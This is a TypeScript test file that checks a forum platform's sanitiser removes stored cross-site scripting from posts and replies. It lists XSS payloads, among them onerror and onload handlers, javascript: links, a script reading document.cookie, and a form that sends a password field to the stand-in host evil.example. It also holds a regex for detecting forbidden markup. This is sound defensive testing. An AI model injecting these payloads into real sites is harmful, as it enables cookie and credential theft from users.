import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestPlatform, type TestPlatform } from '../helper';
import { forumClient, newPost } from './forum-client';

let t: TestPlatform;
let call: ReturnType<typeof forumClient>;
beforeAll(async () => {
  t = await createTestPlatform();
  call = forumClient(t);
});
afterAll(() => t.close());

/**
 * SECURITY.md J32 (announcement stored XSS) sends these bodies; J34 asks every other rich-text body — a post, a reply,
 * a reply in a floor (楼中楼) — to go through the same sanitiser. Each entry is one payload of J32's list (or one
 * this file had before: inline handlers and styles, an iframe by src, a script link in mixed case).
 */
const J32_PAYLOADS: [name: string, html: string][] = [
  ['img onerror', '<img src=x onerror=alert(1)>'],
  ['svg onload', '<svg onload=alert(1)><circle r="1"/></svg>'],
  ['javascript: link', '<a href="javascript:alert(1)">点我</a>'],
  ['iframe srcdoc', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  ['script', '<script>alert(document.cookie)</script>'],
  ['style @import', '<style>@import url(https://evil.example/x.css);</style>'],
  ['form action', '<form action="https://evil.example/steal"><input name="pwd"><button>提交</button></form>'],
  ['object data', '<object data="https://evil.example/x.swf"></object>'],
  ['inline handler and style', '<p onclick="alert(1)" style="background:url(javascript:alert(1))">段落</p>'],
  ['iframe src', '<iframe src="https://evil.example"></iframe>'],
  ['mixed-case javascript:', '<a href="JaVaScRiPt:alert(1)">大小写</a>'],
  ['data: and vbscript: links', '<a href="data:text/html,<script>alert(1)</script>">数据</a><a href="vbscript:msgbox(1)">vb</a>'],
];
/** What J32 says may never survive: scripts, frames, styles, forms, plugins, SVG, handlers and non-web links. */
const FORBIDDEN = /<script|<iframe|<style|<form|<input|<object|<embed|<svg|srcdoc|@import|\son\w+=|style=|javascript:|vbscript:|data:text/i;
/** J32's allowed links: http, https and mailto, kept as written. */
const LINKS = '<a href="https://www.moc.gov.cn/">交通运输部</a><a href="http://example.cn/a">规范</a><a href="mailto:jishu@gcjt.example.cn">技术部</a>';

describe('stored XSS in posts and replies (SECURITY.md J32, J34)', () => {
  const body = `<p>正文</p>${J32_PAYLOADS.map(([, html]) => html).join('')}<p>${LINKS}</p>`;

  it('J32: every payload is stripped from a post as stored and as read; formatting and http/https/mailto links stay', async () => {
    // Each payload trips the check as sent, so the check cannot pass by matching nothing.
    for (const [name, html] of J32_PAYLOADS) expect(html, name).toMatch(FORBIDDEN);
    const add = await call('lina', 'POST', 'post/add', newPost('安全测试', body));
    expect(add.success, add.message).toBe(true);
    const stored = (await t.db.query<{ content: string }>('SELECT content FROM forum_post WHERE id = $1', [add.result])).rows[0].content;
    const read = (await call('wangqiang', 'GET', `post/queryById?id=${add.result}`)).result.content as string;
    for (const html of [stored, read]) {
      expect(html).not.toMatch(FORBIDDEN);
      expect(html).toContain('<p>正文</p>');
      expect(html).toContain('段落');
      expect(html).toContain(LINKS);
    }
    // One payload at a time too, so a sanitiser that only trips on the first attack in a body is caught.
    for (const [name, html] of J32_PAYLOADS) {
      const one = await call('lina', 'POST', 'post/add', newPost(`J32 ${name}`, `<p>正文</p>${html}`));
      const content = (await call('wangqiang', 'GET', `post/queryById?id=${one.result}`)).result.content as string;
      expect(content, name).not.toMatch(FORBIDDEN);
    }
  });

  it('J32: a title and labels are plain text, kept exactly as typed and never parsed as markup', async () => {
    const title = '<b>沥青</b><img src=x onerror=alert(1)> ${7*7}';
    const add = await call('lina', 'POST', 'post/add', newPost(title, '<p>正文</p>', { labels: ['<i>标签</i>'] }));
    expect(add.success, add.message).toBe(true);
    expect((await call('wangqiang', 'GET', `post/queryById?id=${add.result}`)).result).toMatchObject({ title, labels: ['<i>标签</i>'] });
  });

  it('J32: a kind outside post|question is refused, not stored as something else', async () => {
    expect(await call('lina', 'POST', 'post/add', newPost('类型不对', '<p>正文</p>', { kind: 'EVERYONE' }))).toMatchObject({ status: 400, message: '帖子类型不正确' });
  });

  it('J34: replies and floor replies go through the same sanitiser', async () => {
    const post = (await call('lina', 'POST', 'post/add', newPost('回复安全测试'))).result as string;
    const reply = await call('wangqiang', 'POST', 'reply/add', { postId: post, content: `<p>回复</p>${body}` });
    expect(reply.success, reply.message).toBe(true);
    const floor = await call('lina', 'POST', 'reply/add', { postId: post, parentId: reply.result, content: `<p>楼中楼</p>${body}` });
    expect(floor.success, floor.message).toBe(true);
    const replies = (await call('lina', 'GET', `reply/list?postId=${post}`)).result as { content: string; children?: { content: string }[] }[];
    const all = replies.flatMap((r) => [r.content, ...(r.children ?? []).map((c) => c.content)]);
    expect(all.join('')).toContain('楼中楼');
    const stored = (await t.db.query<{ content: string }>('SELECT content FROM forum_reply WHERE post_id = $1', [post])).rows.map((r) => r.content);
    expect(stored).toHaveLength(2);
    for (const html of [...all, ...stored]) {
      expect(html).not.toMatch(FORBIDDEN);
      expect(html).toContain(LINKS);
    }
  });
  // J34's other half — no raw HTML reaches the DOM without the browser's sanitiser — is tests/contracts/raw-html.test.ts.

  it('signs the platform’s pictures for readers and never stores a signature', async () => {
    const key = 'forum/202611/0123456789abcdef0123456789abcdef.png';
    const add = await call('lina', 'POST', 'post/add', newPost('带图', `<p>图</p><img src="/devops/sys/common/static/${key}?exp=1&amp;sig=old">`));
    const stored = await t.db.query<{ content: string }>('SELECT content FROM forum_post WHERE id = $1', [add.result]);
    expect(stored.rows[0].content).toContain(`src="/devops/sys/common/static/${key}"`);
    const read = (await call('wangqiang', 'GET', `post/queryById?id=${add.result}`)).result.content as string;
    expect(read).toMatch(new RegExp(`src="/devops/sys/common/static/${key}\\?exp=\\d+&sig=[\\w-]+"`));
  });
});
